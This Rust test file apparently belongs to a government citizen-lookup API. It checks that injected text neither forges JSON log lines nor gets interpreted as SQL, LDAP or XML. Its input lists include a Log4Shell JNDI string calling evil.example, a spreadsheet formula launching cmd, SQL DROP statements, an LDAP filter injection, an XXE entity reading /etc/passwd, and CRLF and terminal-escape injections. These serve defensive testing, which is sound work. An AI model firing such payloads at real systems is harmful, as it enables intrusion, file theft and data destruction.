//! Text that is something else to whoever reads it next: logs, terminals, tables, SQL, XML.

use serde_json::{Value, json};
use tests::forger::{CALLER, Forger, leaf, uri};
use tests::{Rest, Sandbox, Wire, question};

const GOOD: &str = "999099000001";
const LOOKUP: &str = "/v1/citizens:lookup";

/// Row P10: whatever a caller sends, an event of the log is one line of JSON in which nothing of it
/// stands for anything but text.
#[tokio::test]
async fn nothing_that_is_sent_forges_a_line_of_the_log() {
    let sandbox = Sandbox::start();
    let evil = "${jndi:ldap://evil.example/a}";
    let mut params = leaf();
    params.distinguished_name.push(
        rcgen::DnType::CommonName,
        "a\r\n{\"level\":\"error\"}\u{1b}[2J",
    );
    params.subject_alt_names = vec![uri(CALLER)];
    let (cert, key) = Forger::of(&sandbox).sign("evil", &params, "");
    let rest = Rest::with(&sandbox, Some((&cert, &key)));
    for text in [
        evil,
        "=cmd|'/c calc'!A1",
        "'; DROP TABLE records; --",
        "%0d%0aforged",
    ] {
        let mut body = question(GOOD, "ONE_STOP_DESK", "tax.status");
        body["context"]["reasonText"] = json!(text);
        body["context"]["officerId"] = json!(text);
        let headers = [
            ("user-agent", text),
            ("traceparent", text),
            ("tracestate", text),
        ];
        let answer = rest.post(LOOKUP, body.to_string(), &headers).await.unwrap();
        assert_eq!(answer.status, 200, "{text}: {}", answer.text);
        body["context"]["purposeCode"] = json!(text);
        let answer = rest.post(LOOKUP, body.to_string(), &headers).await.unwrap();
        assert_eq!(answer.status, 400, "{text}: {}", answer.text);
    }
    let raw = "GET /v1/fields HTTP/1.1\r\nhost: a\r\nuser-agent: a\u{1b}[31mb\r\nconnection: close\r\n\r\n";
    Wire::new(&sandbox, "commune")
        .exchange(raw.as_bytes())
        .await
        .unwrap();
    let logged = sandbox.logged();
    assert!(!logged.contains('\u{1b}') && !logged.contains("jndi") && !logged.contains("forged"));
    for line in logged.lines() {
        let event: Value = serde_json::from_str(line).unwrap_or_else(|_| panic!("{line}"));
        assert!(event.is_object(), "{line}");
    }
}

/// Row P11: text that is SQL, LDAP or XML reaches every agency as text, and each answers the question.
#[tokio::test]
async fn nothing_that_is_sent_is_read_as_sql_or_xml() {
    let sandbox = Sandbox::start();
    let rest = Rest::new(&sandbox, "commune");
    for text in [
        "' OR '1'='1",
        "'; DROP VIEW insured; --",
        "*)(uid=*))(|(uid=*",
        "</ns1:Ten><SoDinhDanh>999099000002</SoDinhDanh>",
        "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>&b;",
        "]]><![CDATA[&lt;",
        "\\u0027; --",
    ] {
        let mut body = question(GOOD, "ONE_STOP_DESK", &tests::everything());
        for place in ["reasonText", "officerId", "dossierNo"] {
            body["context"][place] = json!(text);
        }
        let answer = rest.post(LOOKUP, body.to_string(), &[]).await.unwrap();
        assert_eq!(answer.status, 200, "{text}: {}", answer.text);
        let sources = answer.json()["sources"].clone();
        for source in sources.as_array().unwrap() {
            let state = &source["state"];
            let is_answered = matches!(
                state.as_str(),
                Some("SOURCE_STATE_OK" | "SOURCE_STATE_WITHHELD" | "SOURCE_STATE_NOT_FOUND")
            );
            assert!(is_answered, "{text}: {source}");
        }
        assert!(!answer.text.contains("root:"), "{}", answer.text);
        // A number that is SQL is no number.
        let mut body = question(text, "ONE_STOP_DESK", "tax.status");
        body["subject"] = json!({"taxCode": text});
        let answer = rest.post(LOOKUP, body.to_string(), &[]).await.unwrap();
        assert_eq!(answer.status, 400, "{text}: {}", answer.text);
        assert!(!answer.text.contains(text), "{}", answer.text);
    }
}
